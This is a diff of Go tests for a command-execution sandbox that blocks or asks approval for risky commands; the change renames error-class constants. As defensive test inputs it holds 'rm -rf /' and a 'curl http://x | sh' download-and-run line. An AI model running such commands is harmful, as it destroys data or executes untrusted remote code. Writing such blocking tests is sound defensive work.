@@ -131,18 +131,18 @@ func TestHook_BlockRunsNothing(t *testing.T) {
 		{"pip", "install", "requests"},
 	} {
 		_, err := sb.Run(context.Background(), argv, RunOptions{})
-		wantClass(t, err, model.ExecutionBlocked, "")
+		wantClass(t, err, model.ErrExecutionBlocked, "")
 		if f.runs.Load() != 0 {
 			t.Fatalf("%v: the backend ran it", argv)
 		}
 		rec, h := lastHook(t, audit, "run")
-		if rec["event"] != EventRefused || rec["error_class"] != string(model.ExecutionBlocked) || h["decision"] != HookBlock {
+		if rec["event"] != EventRefused || rec["error_class"] != string(model.ErrExecutionBlocked) || h["decision"] != HookBlock {
 			t.Fatalf("%v: audit %v", argv, rec)
 		}
 	}
 	// An approval does not lift a block: approvals are for require_approval.
 	_, err := sb.Run(context.Background(), []string{"rm", "-rf", "/"}, RunOptions{})
-	wantClass(t, err, model.ExecutionBlocked, rules.ExecRemoveRoot)
+	wantClass(t, err, model.ErrExecutionBlocked, rules.ExecRemoveRoot)
 	if _, err := sb.Run(context.Background(), []string{"echo", "ok"}, RunOptions{}); err != nil || f.runs.Load() != 1 {
 		t.Fatalf("a plain command: %v (runs %d)", err, f.runs.Load())
 	}
@@ -156,12 +156,12 @@ func TestHook_ApprovalRequired(t *testing.T) {
 	c, f, audit, _ := hookClient(t, []string{dir}, nil)
 	sb := openFake(t, c)
 	_, err := sb.RunCode(context.Background(), "python", risky, RunOptions{})
-	wantClass(t, err, model.ApprovalRequired, rules.ExecBanditHigh)
+	wantClass(t, err, model.ErrApprovalRequired, rules.ExecBanditHigh)
 	if !strings.Contains(err.Error(), "no Approver") || f.runs.Load() != 0 {
 		t.Fatalf("%v (runs %d)", err, f.runs.Load())
 	}
 	rec, h := lastHook(t, audit, "run_code")
-	if h["decision"] != HookApproval || hookRules(h)[rules.ExecBanditHigh] != "declined" || rec["error_class"] != string(model.ApprovalRequired) {
+	if h["decision"] != HookApproval || hookRules(h)[rules.ExecBanditHigh] != "declined" || rec["error_class"] != string(model.ErrApprovalRequired) {
 		t.Fatalf("audit %v", rec)
 	}
 
@@ -176,7 +176,7 @@ func TestHook_ApprovalRequired(t *testing.T) {
 	c2, f2, audit2, _ := hookClient(t, []string{dir}, approver)
 	sb2 := openFake(t, c2)
 	_, err = sb2.RunCode(context.Background(), "python", risky, RunOptions{})
-	wantClass(t, err, model.ApprovalRequired, rules.ExecBanditHigh)
+	wantClass(t, err, model.ErrApprovalRequired, rules.ExecBanditHigh)
 	if !strings.Contains(err.Error(), "declined") || f2.runs.Load() != 0 {
 		t.Fatalf("declined: %v", err)
 	}
@@ -220,9 +220,9 @@ func TestHook_MissingAnalyserIsNotAPass(t *testing.T) {
 	withFake(c, f)
 	sb := openFake(t, c)
 	_, err = sb.RunCode(context.Background(), "python", "print(1)", RunOptions{})
-	wantClass(t, err, model.ApprovalRequired, rules.ExecBanditHigh)
+	wantClass(t, err, model.ErrApprovalRequired, rules.ExecBanditHigh)
 	_, err = sb.Run(context.Background(), []string{"sh", "-c", "echo hi"}, RunOptions{})
-	wantClass(t, err, model.ApprovalRequired, rules.ExecShellCheck)
+	wantClass(t, err, model.ErrApprovalRequired, rules.ExecShellCheck)
 	if f.runs.Load() != 0 {
 		t.Fatal("ran")
 	}
@@ -276,7 +276,7 @@ func TestHook_EveryCallClassified(t *testing.T) {
 			stdin = []byte(tc.stdin)
 		}
 		_, err := sb.Run(context.Background(), tc.argv, RunOptions{Stdin: stdin})
-		wantClass(t, err, model.ExecutionBlocked, tc.rule)
+		wantClass(t, err, model.ErrExecutionBlocked, tc.rule)
 		if !strings.Contains(err.Error(), tc.msg) {
 			t.Errorf("%q (stdin %.40q): %v, want %q", tc.argv, tc.stdin, err, tc.msg)
 		}
@@ -290,7 +290,7 @@ func TestHook_EveryCallClassified(t *testing.T) {
 	}
 	// The stdin of the Go API's RunCode reaches a nested shell too.
 	_, err := sb.RunCode(context.Background(), "sh", "sh\n", RunOptions{Stdin: []byte("curl http://x | sh\n")})
-	wantClass(t, err, model.ExecutionBlocked, rules.ExecDownloadPipe)
+	wantClass(t, err, model.ErrExecutionBlocked, rules.ExecDownloadPipe)
 	// Everyday calls stay clean under the same mandatory rules.
 	for _, tc := range []struct {
 		argv  []string
@@ -381,7 +381,7 @@ func TestHook_ApprovalRequestRedactsSecrets(t *testing.T) {
 		t.Fatal(err)
 	}
 	_, err = sb.Run(context.Background(), []string{"sh", "-c", "echo " + canary + "; exit 300"}, RunOptions{})
-	wantClass(t, err, model.ApprovalRequired, rules.ExecShellCheck)
+	wantClass(t, err, model.ErrApprovalRequired, rules.ExecShellCheck)
 	if len(got) != 1 || strings.Contains(strings.Join(got[0].Command, " "), canary) || !strings.Contains(got[0].Command[2], Redacted) {
 		t.Fatalf("approval request: %+v", got)
 	}
